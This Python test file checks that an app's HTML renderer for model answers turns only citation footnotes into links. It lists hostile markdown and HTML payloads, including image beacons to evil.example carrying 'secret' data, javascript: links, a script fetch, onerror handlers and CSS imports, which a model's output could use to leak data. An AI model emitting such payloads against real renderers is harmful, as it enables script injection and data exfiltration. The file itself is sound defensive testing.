"""An answer as HTML: footnotes are links, and nothing else is one, whatever the model was told to write."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.answering.rendering import render
from app.types import Citation

CITED = Citation(
    marker=1,
    document_id="doc_1",
    version=1,
    filename="dome.pdf",
    page=3,
    chunk_id="doc_1.1.0",
    start=0,
    end=4,
    quote="dome",
    score=1.0,
)
ADDRESS = "/documents/doc_1/content#page=3"
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click][1]\n\n[1]: https://evil.example",
    "[1]\n\n[1]: https://evil.example 'title'",
    "[1](https://evil.example)",
    "![1](//evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "<img src=https://evil.example/x.png>",
    "<script>fetch('https://evil.example')</script>",
    "<a href='/documents/doc_2/content'>x</a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '```[1]" onmouseover="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#91;x&#93;(https://evil.example)",
    "| a |\n|---|\n| <iframe src=//evil.example> |",
    "a\u202e![x](https://evil.example)",
    "[a]: <javascript:alert(1)>\n\n[a]",
    "<style>@import url(//evil.example);</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<form action=//evil.example><input></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.addresses: set[str | None] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value for name, value in attrs if name not in ("rel", "start")}


def seen(html: str) -> _Seen:
    parser = _Seen()
    parser.feed(html)
    parser.close()
    return parser


def test_a_marker_links_to_what_it_cites() -> None:
    """The address is the cited document's original, at its page."""
    html = render("It closes at **15 m/s**. [1]", [CITED])
    assert f'It closes at <strong>15 m/s</strong>. <sup><a href="{ADDRESS}"' in html
    assert seen(render("风大时关闭。【1】", [CITED])).addresses == {ADDRESS}


def test_a_marker_without_a_citation_is_text() -> None:
    """A footnote that leads nowhere is not a link."""
    assert render("So it is. [2]", [CITED]) == "<p>So it is. [2]</p>\n"
    assert seen(render("So it is. [1, 2]", [CITED])).addresses == {ADDRESS}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_else_is_a_link(text: str) -> None:
    """Images, links, scripts and styles of an answer stay text, beside footnotes and alone."""
    for answer in (text, f"It closes. [1] {text}", f"{text} [1]", f"It closes. [1]\n\n{text}\n"):
        found = seen(render(answer, [CITED]))
        assert found.addresses <= {ADDRESS}
        assert found.attributes <= {"href", "rel", "start"}
        assert not found.tags & {"img", "script", "style", "iframe", "form", "input", "meta", "svg", "link"}


@given(st.lists(st.sampled_from([*HOSTILE, "[1]", "\n", "`", "*", "<", ">", "](", "![", '"', "&", "\\"])).map("".join))
def test_no_mixture_of_it_is_one(text: str) -> None:
    """Nor are they in any order, one within the other."""
    found = seen(render(text, [CITED]))
    assert found.addresses <= {ADDRESS}
    assert found.attributes <= {"href", "rel", "start"}


def test_what_markdown_says_is_kept() -> None:
    """Lists, tables and code are shown as such."""
    html = render("3. one\n4. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`", [])
    assert '<ol start="3">' in html
    assert "<td>1</td>" in html
    assert "<code>x &lt; y</code>" in html
